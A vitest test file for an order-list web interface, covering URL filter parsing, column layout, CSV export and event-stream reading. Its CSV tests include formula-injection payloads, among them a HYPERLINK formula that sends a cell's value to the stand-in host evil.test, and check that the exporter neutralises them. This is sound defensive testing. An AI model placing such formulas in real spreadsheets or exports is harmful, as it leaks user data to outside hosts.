import { expect, test } from 'vitest';
import { readEvents } from '../graphql/read-events.ts';
import { type Column, shownColumns } from './columns.ts';
import { amount, choices, period, readListSearch, text, texts } from './filters.ts';
import { toCsv } from './save-csv.ts';
import { parseSearch, stringifySearch } from './search-params.ts';

test('digits in the URL stay texts, and lists stay lists', () => {
  const search = { merchantOrderNo: '00123456789012345678', statuses: ['FAILED', 'TIMEOUT'] };
  expect(parseSearch(stringifySearch(search))).toEqual(search);
  expect(stringifySearch({ a: undefined, b: '', c: [] })).toBe('');
});

const read = readListSearch({
  statuses: choices('Status', { FAILED: 'Failed', TIMEOUT: 'Expired' }),
  created: period('Created'),
  no: text('Number'),
  merchants: texts('Merchants'),
  least: amount('Amount'),
});

test('filters get their values from the URL; invalid values are dropped', () => {
  expect(read({ statuses: 'FAILED', created: 'today', no: ' 0012 ', merchants: ['M1', 'M2'], least: '1.50' })).toEqual({
    statuses: ['FAILED'],
    created: 'today',
    no: '0012',
    merchants: ['M1', 'M2'],
    least: '1.50',
  });
  expect(
    read({ statuses: ['X'], created: 'soon', no: '', merchants: [], least: '1e9', sort: 'x', other: '1' }),
  ).toEqual({});
  expect(read({ least: '1,500.00' })).toEqual({ least: '1500.00' });
  expect(read({ after: 'abc', sort: 'OLDEST_FIRST' })).toEqual({ after: 'abc', sort: 'OLDEST_FIRST' });
});

const column = (id: string, more: Partial<Column<unknown>> = {}): Column<unknown> => ({
  id,
  title: id,
  cell: () => null,
  ...more,
});

test('a narrow list leaves out columns, but not the columns that an operator chose', () => {
  const columns = [
    column('number'),
    column('copy', { isFixed: true }),
    column('state', { phone: 'topEnd', from: 60 }),
    column('merchant', { from: 50 }),
    column('changed', { isExtra: true }),
  ];
  const at = (width: number, chosen: string[] | null = null) =>
    shownColumns(columns, chosen, width).map(({ id }) => id);
  expect(at(60)).toEqual(['number', 'copy', 'state', 'merchant']);
  expect(at(59)).toEqual(['number', 'copy', 'merchant']);
  expect(at(45)).toEqual(['number', 'copy']);
  expect(at(24)).toEqual(['number', 'copy', 'state']);
  expect(at(45, ['merchant', 'changed'])).toEqual(['number', 'copy', 'merchant', 'changed']);
});

test('values in a CSV are quoted where necessary, and never run as a formula', () => {
  expect(
    toCsv(
      ['a', 'b'],
      [
        ['1,5', '=SUM(A1)'],
        ['-1.50', '-x'],
        ['say "hi"', null],
      ],
    ),
  ).toBe(`a,b\r\n"1,5",'=SUM(A1)\r\n-1.50,'-x\r\n"say ""hi""",\r\n`);
});

test('a formula that begins within a cell of a CSV, or in full width, is defused as in exports', () => {
  expect(toCsv(['order'], [['A;=HYPERLINK("http://evil.test/?"&A1)'], ['＝1+1'], ['x\t=1+1']])).toBe(
    `order\r\n"A;'=HYPERLINK(""http://evil.test/?""&A1)"\r\n'＝1+1\r\n"x\t'=1+1"\r\n`,
  );
});

test('events are read completely, however their bytes are divided into pieces', async () => {
  const bytes = new TextEncoder().encode(
    ':\n\nevent: next\ndata: {"a":"é"}\n\n:\n\nevent: next\r\ndata: 2\r\n\r\nevent: complete\ndata\n\nevent: next\ndata: 3\n\n',
  );
  const body = new ReadableStream<Uint8Array>({
    start: (controller) => {
      for (const byte of bytes) controller.enqueue(Uint8Array.of(byte));
      controller.close();
    },
  });
  let count = 0;
  const events: string[] = [];
  for await (const data of readEvents(body, () => (count += 1))) events.push(data);
  expect(events).toEqual(['{"a":"é"}', '2']);
  expect(count).toBeGreaterThan(10);
});
